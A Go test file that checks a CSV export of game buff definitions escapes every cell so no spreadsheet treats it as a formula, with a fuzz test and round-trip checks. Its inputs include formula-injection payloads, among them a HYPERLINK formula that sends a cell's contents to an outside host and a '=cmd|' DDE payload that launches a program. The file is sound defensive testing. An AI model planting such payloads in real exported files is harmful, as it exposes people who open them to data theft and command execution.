package definition

import (
	"encoding/csv"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/goccy/go-yaml/ast"
	"github.com/stretchr/testify/require"
)

// named returns a file with one definition that contains the given texts as a text, in a list of
// texts, and as an ID.
func named(id, name, tag string) string {
	return fmt.Sprintf(`{"buffs": {%s: {"duration": "12s", "name": %s, "tags": [%s, "b"], "params": {"p": %[2]s}}}}`, inJSON(id), inJSON(name), inJSON(tag))
}

// plainNumber matches numbers, which may start with a sign although they are no formulas.
var plainNumber = regexp.MustCompile(`^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$`)

// noFormula reads a table as a spreadsheet does, and checks that no cell is a formula.
func noFormula(t *testing.T, table string) {
	t.Helper()
	r := csv.NewReader(strings.NewReader(table))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	require.NoError(t, err)
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") && !plainNumber.MatchString(cell) {
				require.Fail(t, "a formula", "%q in %q", cell, table)
			}
		}
	}
}

// TestNoFormulas checks that no cell is a formula for the spreadsheet that opens the table, and
// that each cell is read back unchanged.
func TestNoFormulas(t *testing.T) {
	for _, text := range []string{
		`=HYPERLINK("http://x.example?"&A1,"free gold")`, "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", " =1", "-", "+", "=",
		"＝1+1", "＋1", "－1", "＠x", "-5", "+5", "-5s", "-0x1f", "-.inf", "--5", "+-+", "-1e5", "'=1", `"=1"`, `""=1`, "a=1", "a;=1", "=a;b", "=[a", "\n=1", "\u00a0=1", "\ufeff",
	} {
		for _, k := range [][3]string{{"a", text, "t"}, {"a", "n", text}, {text, "n", "t"}} {
			src := named(k[0], k[1], k[2])
			root, err := Tree("x.json", []byte(src))
			if err != nil { // a control character
				continue
			}
			table, err := Write(root, CSV)
			if err != nil {
				require.Contains(t, err.Error(), "cannot be written as CSV", "%q", text)
				continue
			}
			noFormula(t, table)
			back, err := Tree("x.csv", []byte(table))
			require.NoError(t, err, "%q", text)
			require.Equal(t, canon(definitionsOf(t, root)), canon(definitionsOf(t, back)), "%q", text)
		}
	}
	for src, want := range map[string]string{
		`{"buffs": {"a": {"duration": "1s", "name": "=1+1"}}}`:                                                "##var,id,name,duration\n,a,\"\"\"=1+1\"\"\",1s\n",
		`{"buffs": {"=1": {"duration": "1s", "group": {"name": "g", "priority": -5}, "tags": ["@a", "-b"]}}}`: "##var,id,tags,duration,group.name,group.priority\n,\"\"\"=1\"\"\",\"\"\"@a\"\";\"\"-b\"\"\",1s,g,-5\n",
	} {
		root, err := Tree("x.json", []byte(src))
		require.NoError(t, err)
		table, err := Write(root, CSV)
		require.NoError(t, err)
		require.Equal(t, want, table)
	}
	root, err := Tree("x.json", []byte(`{"buffs": {"a": {"=1+1": 5}}}`))
	require.NoError(t, err)
	_, err = Write(root, CSV)
	require.ErrorContains(t, err, `the field "=1+1" cannot be a column name: a spreadsheet would treat it as a formula`)
}

func definitionsOf(t *testing.T, root ast.Node) ast.Node {
	fields, ok := Fields(root)
	require.True(t, ok)
	return fields[0].Value
}

// FuzzNoFormulas checks that a table of any texts has no formula, and is read back unchanged.
func FuzzNoFormulas(f *testing.F) {
	f.Add("a", "=HYPERLINK(\"x\")", "-t")
	f.Add("=a", "+1", "@")
	f.Fuzz(func(t *testing.T, id, name, tag string) {
		if !utf8.ValidString(id+name+tag) || id == "" {
			return
		}
		root, err := Tree("x.json", []byte(named(id, name, tag)))
		if err != nil {
			return
		}
		table, err := Write(root, CSV)
		if err != nil {
			return
		}
		noFormula(t, table)
		back, err := Tree("x.csv", []byte(table))
		require.NoError(t, err)
		require.Equal(t, canon(definitionsOf(t, root)), canon(definitionsOf(t, back)))
	})
}
